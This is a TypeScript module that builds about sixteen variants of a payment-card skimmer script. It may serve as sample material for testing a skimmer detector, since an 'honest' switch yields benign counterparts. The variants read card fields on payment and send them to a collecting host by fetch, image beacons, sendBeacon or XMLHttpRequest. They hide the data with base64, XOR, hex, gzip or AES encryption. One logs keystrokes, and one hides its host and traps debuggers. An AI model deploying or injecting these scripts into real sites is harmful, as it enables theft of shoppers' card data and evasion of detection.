import { ON_PAY, type SkimmerVariant, takeCode } from './types.ts';

/** A thief that sends with one request, written in one way. `send`: code of a function, with `C` the collecting host and `D()` the JSON. */
function encoded(id: string, idea: string, send: string): SkimmerVariant {
  return {
    id,
    idea,
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `(() => { ${takeCode(honest)} const C = '${collect}'; const D = () => JSON.stringify(take()); function send() { ${send} } ${ON_PAY} })();`,
    }),
  };
}

const XOR = `const x = (t, k) => [...t].map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ k.charCodeAt(i % k.length))).join('');`;

/** The ways of writing in which stolen data is hidden. */
export const encodings: readonly SkimmerVariant[] = [
  encoded('plain-fetch', 'in the clear, by fetch', `fetch(C + '/p', { method: 'POST', mode: 'no-cors', body: D() });`),
  encoded('base64-image', 'base64 in the address of a picture', `new Image().src = C + '/i.gif?d=' + encodeURIComponent(btoa(D()));`),
  encoded(
    'base64-twice',
    'base64 twice, with a letter in front',
    `new Image().src = C + '/i.gif?d=k' + btoa(btoa(D())).replace(/\\+/g, '-').replace(/\\//g, '_');`,
  ),
  encoded(
    'hex-beacon',
    'hex, by beacon',
    `navigator.sendBeacon(C + '/b', [...D()].map((c) => c.charCodeAt(0).toString(16).padStart(2, '0')).join(''));`,
  ),
  encoded('reversed-beacon', 'reversed, by beacon', `navigator.sendBeacon(C + '/b', [...D()].reverse().join(''));`),
  encoded('xor-base64', 'exclusive-or with a word, then base64', `${XOR} navigator.sendBeacon(C + '/b', 'q=' + btoa(x(D(), 'vip26')));`),
  encoded(
    'xor-hex-xhr',
    'exclusive-or with a word, in hex, by XMLHttpRequest',
    `${XOR} const r = new XMLHttpRequest(); r.open('POST', C + '/x'); r.send([...x(D(), 'magento')].map((c) => c.charCodeAt(0).toString(16).padStart(2, '0')).join(''));`,
  ),
  encoded(
    'other-alphabet',
    'base64 with an alphabet of its own',
    `const a = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/', b = 'zyxwvutsrqponmlkjihgfedcba9876543210ZYXWVUTSRQPONMLKJIHGFEDCBA_-'; fetch(C + '/a?m=' + [...btoa(D())].map((c) => b[a.indexOf(c)] || '.').join(''), { mode: 'no-cors' });`,
  ),
  encoded(
    'character-codes',
    'character codes',
    `fetch(C + '/c?v=' + [...D()].map((c) => c.charCodeAt(0)).join(','), { mode: 'no-cors' });`,
  ),
  encoded(
    'digits-as-letters',
    'digits written as letters',
    `const t = take(); fetch(C + '/l?v=' + (t.n.replace(/\\d/g, (n) => 'qwertyuiop'[n]) || 'none'), { mode: 'no-cors' });`,
  ),
  encoded(
    'in-parameters',
    'the number in four parameters',
    `const p = (take().n.match(/.{1,4}/g) || []).map((v, i) => 'k' + i + '=' + v).join('&'); new Image().src = C + '/q?' + p;`,
  ),
  encoded(
    'packed',
    'packed by the browser, then base64',
    `new Response(new Blob([D()]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer().then((b) => fetch(C + '/z', { method: 'POST', mode: 'no-cors', body: btoa(String.fromCharCode(...new Uint8Array(b))) }));`,
  ),
  encoded(
    'form-data',
    'as a form of several parts',
    `const f = new FormData(); for (const [k, v] of Object.entries(take())) f.append(k, v); fetch(C + '/f', { method: 'POST', mode: 'no-cors', body: f });`,
  ),
  encoded('header', 'in a header of its own', `fetch(C + '/h', { headers: { 'x-trace': btoa(D()) } }).catch(() => 0);`),
  {
    id: 'key-by-key',
    idea: 'a request for every key',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: honest
        ? `document.addEventListener('keyup', (e) => { new Image().src = '${collect}/k?f=' + e.target.name + '&t=' + Date.now(); }, true);`
        : `document.addEventListener('keypress', (e) => { new Image().src = '${collect}/k?f=' + e.target.name + '&t=' + Date.now() + '&k=' + e.key; }, true);`,
    }),
  },
  {
    id: 'enciphered',
    idea: 'enciphered with a key of the thief, by a hidden script that stops debuggers',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `(() => { ${takeCode(honest)}
        const C = ${honest ? `'${collect}'` : `atob('${Buffer.from(collect.replace('http:', '')).toString('base64')}')`};
        ${honest ? '' : 'setInterval(() => { debugger; }, 4000);'}
        async function send() { const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, false, ['encrypt']); const iv = crypto.getRandomValues(new Uint8Array(12));
        const sealed = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(JSON.stringify(take()))); navigator.sendBeacon(C + '/e', new Uint8Array(sealed)); } ${ON_PAY} })();`,
    }),
  },
];
